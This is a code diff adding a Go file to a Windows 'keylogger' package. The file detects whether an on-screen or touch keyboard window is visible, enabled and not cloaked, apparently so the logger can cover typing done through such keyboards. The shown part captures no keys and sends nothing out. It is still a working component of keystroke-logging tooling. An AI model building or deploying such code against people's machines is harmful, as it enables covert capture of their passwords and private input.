@@ -0,0 +1,87 @@
+package keylogger
+
+import (
+	"strings"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+)
+
+var (
+	enumWindows           = user32.NewProc("EnumWindows")
+	isWindowVisible       = user32.NewProc("IsWindowVisible")
+	isWindowEnabled       = user32.NewProc("IsWindowEnabled")
+	dwmapi                = windows.NewLazySystemDLL("dwmapi.dll")
+	dwmGetWindowAttribute = dwmapi.NewProc("DwmGetWindowAttribute")
+	onScreenCB            = windows.NewCallback(onScreenWindow)
+)
+
+/*
+	DWMWA_CLOAKED : Whether the window is hidden by the desktop window manager,
+	as the touch keyboard of Windows 11 is while it is closed.
+*/
+const DWMWA_CLOAKED = 14
+
+/*
+	How long the worker trusts what it found out about the on-screen
+	keyboards, so typing on one does not list the windows for every key.
+*/
+const onScreenRecheck = 250 * time.Millisecond
+
+/*
+	Tells the worker whether one of the on-screen keyboards shows a window,
+	visible, enabled and not cloaked; closed keyboards keep theirs hidden.
+*/
+type onScreenKeyboards struct {
+	apps    []string
+	checked time.Time
+	shown   bool
+	names   map[uint32]string // of the processes seen by the last look
+}
+
+func newOnScreenKeyboards(apps []string) *onScreenKeyboards {
+	return &onScreenKeyboards{apps: append(append([]string(nil), DefaultOnScreenKeyboards...), apps...)}
+}
+
+func (o *onScreenKeyboards) visible() bool {
+	if now := time.Now(); now.Sub(o.checked) >= onScreenRecheck {
+		o.checked, o.shown = now, false
+		o.names = make(map[uint32]string)
+		enumWindows.Call(onScreenCB, uintptr(unsafe.Pointer(o)))
+	}
+	return o.shown
+}
+
+/*
+	The EnumWindows callback of visible, which stops at the first window of
+	an on-screen keyboard.
+*/
+func onScreenWindow(hwnd HWND, lparam LPARAM) uintptr {
+	o := *(**onScreenKeyboards)(unsafe.Pointer(&lparam))
+	if ret, _, _ := isWindowVisible.Call(uintptr(hwnd)); ret == 0 {
+		return 1
+	}
+	if ret, _, _ := isWindowEnabled.Call(uintptr(hwnd)); ret == 0 {
+		return 1
+	}
+	var cloaked uint32
+	dwmGetWindowAttribute.Call(uintptr(hwnd), DWMWA_CLOAKED, uintptr(unsafe.Pointer(&cloaked)), unsafe.Sizeof(cloaked))
+	if cloaked != 0 {
+		return 1
+	}
+	var pid uint32
+	windows.GetWindowThreadProcessId(windows.HWND(hwnd), &pid)
+	name, ok := o.names[pid]
+	if !ok {
+		name = processName(pid)
+		o.names[pid] = name
+	}
+	for _, app := range o.apps {
+		if strings.EqualFold(app, name) {
+			o.shown = true
+			return 0
+		}
+	}
+	return 1
+}